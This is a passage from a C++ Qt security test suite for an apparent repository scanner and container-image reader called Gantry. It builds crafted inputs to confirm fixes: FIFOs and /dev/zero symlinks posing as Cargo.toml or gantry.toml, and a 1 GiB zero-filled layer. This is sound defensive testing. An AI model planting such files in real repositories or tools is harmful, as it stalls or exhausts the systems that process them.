        const QString path = writeImageWithLayer(m_work.filePath(u"deep.tar"_s), layer);
        QVERIFY(!path.isEmpty());
        const Result<ImageData> read = ImageArchive::read(path);
        QVERIFY(!read);
        const QString error = read.failure().sentence();
        QVERIFY2(!error.contains(u'\n') && !error.isEmpty(), qPrintable(error));
        qInfo("%s: %s", qPrintable(read.failure().className()), qPrintable(error));
    }

    // Finding 8: the scanner's size caps were bypassed by a FIFO (open() blocked forever)
    // and by a link to /dev/zero (size 0, endless bytes).
    void scannerNeverBlocksOnAFifo()
    {
        QTemporaryDir tmp;
        const QString repo = tmp.filePath(u"repo"_s);
        QVERIFY(QDir().mkpath(repo));
        QCOMPARE(::mkfifo(QFile::encodeName(repo + u"/Cargo.toml"_s).constData(), 0644), 0);
        QCOMPARE(::mkfifo(QFile::encodeName(repo + u"/gantry.toml"_s).constData(), 0644), 0);
        auto scanned = QtConcurrent::run([repo] {
            QString error;
            const auto facts = ProjectScanner::scanRepository(repo);
            if (!facts)
                error = facts.failure().sentence();
            return facts ? QString() : error;
        });
        auto loaded = QtConcurrent::run([repo] {
            QString error;
            const auto recipe = BuildRecipe::load(repo);
            if (!recipe)
                error = recipe.failure().sentence();
            return recipe ? QString() : error;
        });
        const auto settle = [](QFuture<QString> &f, const QString &fifo) {
            for (int i = 0; i < 600 && !f.isFinished(); ++i)
                QThread::msleep(50);
            const bool hung = !f.isFinished();
            if (hung) { // unblock the reader so that the test can end
                QFile w(fifo);
                w.open(QIODevice::WriteOnly);
                w.close();
                f.waitForFinished();
            }
            return !hung;
        };
        const bool scanEnded = settle(scanned, repo + u"/Cargo.toml"_s);
        const bool loadEnded = settle(loaded, repo + u"/gantry.toml"_s);
        QVERIFY2(scanEnded, "scanning a repository whose Cargo.toml is a FIFO blocked for 30 s");
        QVERIFY2(loadEnded, "loading a gantry.toml that is a FIFO blocked for 30 s");
        QVERIFY2(scanned.result().contains(u"not a regular file"_s), qPrintable(scanned.result()));
        QVERIFY2(loaded.result().contains(u"not a regular file"_s), qPrintable(loaded.result()));
    }
    void scannerCapsALinkToDevZero()
    {
        QTemporaryDir tmp;
        const QString repo = tmp.filePath(u"repo"_s);
        QVERIFY(QDir().mkpath(repo));
        QVERIFY(QFile::link(u"/dev/zero"_s, repo + u"/Cargo.toml"_s));
        QVERIFY(QFile::link(u"/dev/zero"_s, repo + u"/gantry.toml"_s));
        QString error;
        const auto facts = ProjectScanner::scanRepository(repo);
        QVERIFY(!facts);
        error = facts.failure().sentence();
        QVERIFY2(error.contains(u"not a regular file"_s), qPrintable(error));
        {
            const auto refused = BuildRecipe::load(repo);
            QVERIFY(!refused);
            error = refused.failure().sentence();
        }
        QVERIFY2(error.contains(u"not a regular file"_s), qPrintable(error));
    }

    // The false alarm: a 1 GiB layer of zeros (a preallocated file, legitimate) was refused
    // as a decompression bomb ("expands ... over 200 times").
    void preallocatedGigabyteLayerIsAnalysed()
    {
        const QString path = writeZerosImage(m_work.filePath(u"zeros.tar"_s), qint64(1) << 30);
        QVERIFY(!path.isEmpty());
        qint64 lastDone = -1;
        int reports = 0;
        ImageArchive::Options options;
        options.progress = [&](qint64 done, qint64) {
            lastDone = done;
            ++reports;
        };
        const Result<ImageData> read = ImageArchive::read(path, options);
        QVERIFY2(read, qPrintable(GantryTest::failureText(read)));
        const ImageData &image = *read;
        QCOMPARE(image.layers.size(), 1);
        QVERIFY(image.layers.at(0).tarSize > (qint64(1) << 30));
        bool found = false;
        for (const LayerEntry &e : image.layers.at(0).entries)
            if (image.paths->path(e.path) == u"/var/preallocated.db"_s && e.size == (qint64(1) << 30))
                found = true;
        QVERIFY(found);
        QVERIFY(reports > 0);

        // A layer that expands past the absolute cap is still refused, with the figure and the flag.
        ImageArchive::Options low;
        low.expandedLayerCap = qint64(512) * 1000 * 1000; // sizes are shown in SI units (kB, MB)
        const Result<ImageData> capped = ImageArchive::read(path, low);
        QVERIFY(!capped);
        QCOMPARE(capped.failure().className(), toString(ErrorClass::ArchiveTooLarge));
        const QString error = capped.failure().sentence();
        QVERIFY2(error.contains(u"limit of 512.0 MB"_s) && error.contains(u"--max-layer-size"_s), qPrintable(error));

        // Cancel still works while such a layer streams (the person presses Cancel from
        // another thread once reading has begun; the layer takes seconds to expand).
        std::atomic_bool cancel{false};
        std::atomic_bool begun{false};
        ImageArchive::Options cancelling;
        cancelling.cancel = &cancel;
        cancelling.progress = [&](qint64, qint64) { begun = true; };
        std::thread person([&] {
            for (int i = 0; i < 200 && !begun; ++i)
                QThread::msleep(10);
            cancel = true;
        });
        const Result<ImageData> cancelled = ImageArchive::read(path, cancelling);
        person.join();
        QVERIFY(!cancelled);
        QCOMPARE(cancelled.failure().className(), toString(ErrorClass::Cancelled));
    }
};

QTEST_GUILESS_MAIN(TestSecurity)
#include "tst_security.moc"
